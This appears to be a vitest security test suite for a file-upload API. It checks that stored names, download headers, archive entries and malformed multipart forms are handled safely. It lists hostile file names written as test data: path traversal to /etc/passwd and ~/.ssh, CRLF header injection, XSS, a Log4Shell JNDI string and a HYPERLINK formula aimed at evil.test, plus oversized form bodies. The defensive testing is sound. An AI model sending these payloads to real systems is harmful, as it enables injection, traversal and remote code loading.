import { describe, expect, test } from 'vitest';
import { listArchived } from '../../../server/src/testing/files/docx-samples.ts';
import { drawPicture } from '../../../server/src/testing/pictures.ts';
import { signInAccount } from '../../../server/src/testing/test-accounts.ts';
import { startTestApi } from '../../../server/src/testing/test-api.ts';
import { createTusClient, sendRaw, toBase64 } from './tus-client.ts';

const api = await startTestApi();
const { request, collections } = api;
const owner = await signInAccount(api);
const sender = await signInAccount(api);
const uploads = createTusClient(request, owner);
const text = Buffer.from('My answer.\n');
const picture = await drawPicture().png().toBuffer();

/** Stores a file under this name by tus, whose metadata can have any characters. */
async function store(name: string, content = text): Promise<string> {
  const { headers } = await uploads
    .create(content.length, { 'Upload-Metadata': `filename ${toBase64(name)}` })
    .expect(201);
  const id = String(headers.location).split('/').at(-1) ?? '';
  await uploads.send(id, 0, content).expect(204);
  return id;
}
const download = (id: string) => request.get(`/files/${id}`).set(owner.authorization).expect(200);
async function readName(id: string): Promise<string> {
  const { body } = await request.get(`/files/${id}/details`).set(owner.authorization).expect(200);
  return body.name;
}

const hostile = [
  '../../../etc/passwd',
  '..\\..\\windows\\system32\\evil.txt',
  '/etc/passwd',
  'C:\\autoexec.txt',
  '..',
  '.',
  '',
  ' ',
  '...',
  'a\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>.txt',
  'a"; filename="evil.exe',
  "a'; filename*=UTF-8''evil.exe",
  'a%0d%0aX-Evil: 1.txt',
  'a\0.txt',
  'gnp.\u202Etxt.exe',
  '\u2066\u2067\u2068abc\u2069.txt',
  '\ufeff\u200e\u200f.txt',
  'a\u2028b\u2029c.txt',
  '\u0085\u009b31mred.txt',
  `${'x'.repeat(4096)}.txt`,
  `${'🙂'.repeat(1024)}.txt`,
  `a${'🙂'.repeat(99)}b.txt`,
  `${'e\u0301'.repeat(300)}.txt`,
  `${'\u0301'.repeat(500)}.txt`,
  `x.${'y'.repeat(4000)}`,
  '<img src=x onerror=alert(1)>.txt',
  '=HYPERLINK("https://evil.test")',
  '$' + '{jndi:ldap://evil.test/a}.txt',
  '__proto__',
  'CON',
  'aux.txt',
  '-rf *.txt',
  '~/.ssh/authorized_keys',
  'file:///etc/passwd',
  '\\\\evil.test\\share\\a.txt',
];

const stored = await Promise.all(hostile.map(async (name) => ({ name, id: await store(name) })));

test.each(stored)(
  'the name $name breaks no header, and is one line without a path',
  async ({ id }) => {
    const shown = await readName(id);
    expect(shown.length).toBeGreaterThan(0);
    expect(shown.length).toBeLessThanOrEqual(200);
    expect(shown).not.toMatch(/[\p{Cc}\p{Cs}/\\\u2028-\u202e\u2066-\u2069\ufeff]/u);
    expect(shown).not.toMatch(/^\.*$/);
    const { headers } = await download(id);
    expect(headers['content-disposition']).toMatch(/^attachment; filename[=*][\x20-\x7e]+$/);
    expect(headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(Object.keys(headers).join()).not.toMatch(/evil|set-cookie/i);
  },
);

test.each([
  ['essay.html', text, 'essay.html.txt'],
  ['essay.SVG', text, 'essay.SVG.txt'],
  ['essay.hta', text, 'essay.hta.txt'],
  ['run.bat ', text, 'run.bat.txt'],
  ['page.xhtml', picture, 'page.xhtml.png'],
  ['photo.jpg.exe', picture, 'photo.jpg.exe.png'],
  ['photo.lnk.', picture, 'photo.lnk..png'],
  ['photo.jpeg', picture, 'photo.jpeg'],
  ['work.py', text, 'work.py'],
  ['notes', text, 'notes'],
])(
  'what is downloaded as %j is saved under a name that nothing runs',
  async (name, content, saved) => {
    const { headers } = await download(await store(name, content));
    expect(headers['content-disposition']).toBe(`attachment; filename=${saved}`);
  },
);

test('an archive of files with hostile names is unpacked into one folder', async () => {
  const { body } = await request
    .get('/account/export.zip')
    .set(owner.authorization)
    .responseType('blob')
    .expect(200);
  const names = listArchived(Buffer.from(body));
  expect(names.length).toBeGreaterThan(hostile.length);
  expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
  for (const name of names) {
    expect(name).toMatch(/^(study-flow-account\.json|files\/[0-9a-f]{24}-[^/]*)$/);
    expect(name).not.toMatch(/[\p{Cc}<>:"|?*\\]|[. ]$/u);
    expect(Buffer.byteLength(name)).toBeLessThanOrEqual(255);
  }
});

describe('a malformed form', () => {
  const boundary = 'x';
  const send = (
    body: string | Buffer,
    { type = `multipart/form-data; boundary=${boundary}`, length = Buffer.byteLength(body) } = {},
  ) =>
    sendRaw(
      request,
      [
        'POST /files HTTP/1.1',
        'Host: api',
        `Authorization: ${sender.authorization.Authorization}`,
        `Content-Type: ${type}`,
        `Content-Length: ${length}`,
      ],
      body,
    );
  const part = (disposition: string, content = 'My answer.\n') =>
    `--x\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n`;
  const end = '--x--\r\n';
  const file = part('name="file"; filename="a.txt"');

  test.each<[string, string, { type?: string }?]>([
    ['without a boundary', file + end, { type: 'multipart/form-data' }],
    ['with an empty boundary', file + end, { type: 'multipart/form-data; boundary=' }],
    [
      'with a boundary of 4 kB',
      file + end,
      { type: `multipart/form-data; boundary=${'y'.repeat(4096)}` },
    ],
    ['with another boundary', file + end, { type: 'multipart/form-data; boundary=other' }],
    ['of another kind', file + end, { type: 'multipart/mixed; boundary=x' }],
    ['that ends within its file', file.slice(0, -6)],
    ['that ends before its last line', file],
    ['without any part', end],
    ['that is empty', ''],
    ['of line breaks', '\r\n'.repeat(50_000)],
    ['of boundaries', '--x\r\n'.repeat(20_000) + end],
    ['with two files', file + file + end],
    ['with a hundred fields', part('name="a"').repeat(100) + file + end],
    ['with a field of 100 kB', part('name="a"', 'y'.repeat(100_000)) + file + end],
    ['with a field name of 100 kB', part(`name="${'y'.repeat(100_000)}"`) + file + end],
    ['with a header of 100 kB', `--x\r\nX-A: ${'y'.repeat(100_000)}\r\n${file.slice(5)}${end}`],
    ['with ten thousand headers', `--x\r\n${'X-A: y\r\n'.repeat(10_000)}${file.slice(5)}${end}`],
    ['whose file has no name', part('name="file"') + end],
    ['whose file is called as another field', part('name="image"; filename="a.txt"') + end],
    ['with no disposition', `--x\r\n\r\nMy answer.\r\n${end}`],
    ['with a form within', part('name="file[__proto__]"; filename="a.txt"') + end],
    [
      'with an encoding',
      `--x\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\ny\r\n${end}`,
    ],
  ])('%s is refused with a 4xx, and nothing is stored', async (_what, body, options) => {
    const answer = await send(body, options);
    expect(answer).toMatch(/^HTTP\/1\.1 4(00|13|15) /);
    expect(answer).not.toMatch(/at .*\.(js|ts):|node_modules/);
    expect(await collections.storedFiles.countDocuments({ owner: sender.uid })).toBe(0);
  });

  test.each([
    `name="file"; filename="a\\"; name=\\"evil.txt"`,
    `name="file"; filename*=UTF-8''..%2F..%2Fevil%0d%0aX-Evil%3A%201.txt`,
    `name="file"; filename*=UTF-16''%FF%FE.txt`,
    `name="file"; filename*=iso-8859-1'en'%A3.txt; filename="b.txt"`,
    'name="file"; filename="\xff\xfe.txt"',
    'name="file"; filename="../../a.txt"',
    `name="file"; filename="${'y'.repeat(4096)}.txt"`,
    'name=file; filename=a.txt',
  ])('of one file is stored under a harmless name when its part says %j', async (disposition) => {
    const answer = await send(Buffer.from(part(disposition) + end, 'latin1'));
    expect(answer).toMatch(/^HTTP\/1\.1 (200|4\d\d) /);
    for await (const { name } of collections.storedFiles.find({ owner: sender.uid })) {
      expect(name).not.toMatch(/[\p{Cc}/\\]/u);
      expect(name.length).toBeLessThanOrEqual(200);
    }
  });

  test('under load leaves the next form of the same account working', async () => {
    const malformed = await Promise.all(
      Array.from({ length: 60 }, (_, index) =>
        send(index % 2 ? file.slice(0, -6) : '--x\r\n'.repeat(1000)),
      ),
    );
    for (const answer of malformed) expect(answer).toMatch(/^HTTP\/1\.1 400 /);
    await request
      .post('/files')
      .set(sender.authorization)
      .attach('file', text, 'a.txt')
      .expect(200);
  });
});
